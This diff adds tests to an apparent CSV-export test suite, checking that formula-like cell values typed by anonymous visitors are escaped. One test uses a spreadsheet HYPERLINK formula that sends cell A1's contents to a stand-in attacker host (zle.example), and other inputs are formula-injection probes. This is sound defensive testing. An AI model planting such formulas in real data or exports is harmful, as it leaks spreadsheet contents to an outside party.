@@ -99,7 +99,20 @@ describe('the exported list', () => {
     ])
   })
 
-  test.each(['=1+1', '+48 600', '-2', '@SUM(A1)', '\tx', '\rx'])(
+  test('STAFF-19 what an anonymous visitor types is no formula in it, and a phone stays readable', async () => {
+    const comment = '=HYPERLINK("https://zle.example/?"&A1;"faktura\nza sierpień")'
+    await placed({
+      comment,
+      'customerCompanyBranch.phone': '+48600100200',
+      'customerCompanyBranch.city': 'Śrem',
+    })
+    const { body } = await exported('?search=srem')
+    const { data } = papaparse.parse<string[]>(body.slice(1).trimEnd(), { delimiter: ';', newline: '\r\n' })
+    expect(data[1]?.at(-1)).toBe(`'${comment}`)
+    expect(data[1]?.[11]).toBe('\u00a0+48600100200')
+  })
+
+  test.each(['=1+1', '+48 600', '-2', '@SUM(A1)', '\tx', '\rx', '=1\n+1'])(
     'STAFF-19 a cell that begins like %j is no formula',
     async (typed) => {
       const uuid = await placed()
